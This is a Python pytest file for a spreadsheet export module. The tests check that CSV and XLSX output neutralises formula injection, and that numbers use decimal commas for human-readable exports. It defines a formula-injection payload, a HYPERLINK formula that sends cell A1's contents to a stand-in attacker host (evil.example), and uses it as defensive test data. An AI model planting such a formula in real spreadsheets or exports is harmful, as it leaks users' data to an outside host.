"""Formula neutralisation and the two CSV dialects (dxtracker.spreadsheets)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from dxtracker.spreadsheets import csv_bytes, formula_safe, people_number, set_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_evaluate_gets_an_apostrophe(text):
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Đã khởi công", "85,5 %", "", -5, 12.5, None])
def test_other_values_pass_unchanged(value):
    assert formula_safe(value) == value


@pytest.mark.parametrize("value, shown", [
    (85.5, "85,5"), (85.0, "85"), (1234.5678, "1234,57"), (0.0351, "0,0351"),
    (Decimal("37.5700"), "37,57"), (-2.25, "-2,25"), (7, "7"), (0, "0"),
])
def test_people_numbers_have_a_decimal_comma_and_few_decimals(value, shown):
    assert people_number(value) == shown


def test_people_csv_has_bom_semicolons_decimal_commas_and_inert_formulas():
    body = csv_bytes([["Tên", "Giá trị", "Ngày"], [HYPERLINK, 85.5, date(2026, 3, 31)]],
                     for_people=True)
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Tên", "Giá trị", "Ngày"], ["'" + HYPERLINK, "85,5", "31/03/2026"]]


def test_machine_csv_is_plain_with_decimal_points_and_inert_formulas():
    body = csv_bytes([["name", "value", "day"], [HYPERLINK, 85.5, date(2026, 3, 31)]],
                     for_people=False)
    assert not body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows == [["name", "value", "day"], ["'" + HYPERLINK, "85.5", "2026-03-31"]]


def test_xlsx_text_that_looks_like_a_formula_is_stored_as_text():
    wb = Workbook()
    set_cell(wb.active["A1"], HYPERLINK)
    set_cell(wb.active["A2"], 12.5)
    out = io.BytesIO()
    wb.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].quotePrefix) == (
        HYPERLINK, "s", True)
    assert (sheet["A2"].value, sheet["A2"].data_type) == (12.5, "n")
